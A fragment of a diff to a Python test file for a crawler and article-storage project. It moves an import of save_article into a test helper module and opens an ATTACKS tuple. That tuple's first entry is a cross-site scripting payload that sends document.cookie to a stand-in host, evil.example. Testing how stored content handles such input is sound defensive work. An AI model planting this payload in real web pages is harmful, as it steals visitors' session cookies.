@@ -8,10 +8,10 @@ import pytest
 from fastapi.testclient import TestClient
 
 from crawler.reader import read_page
-from storage.articles.saving import save_article
 from storage.engine.database import Database
 from storage.notices.flags import list_flags
 from tests.storage.samples import NOW
+from tests.storage.steps import save_article
 
 ATTACKS = (
     "<script>fetch('//evil.example/'+document.cookie)</script>",
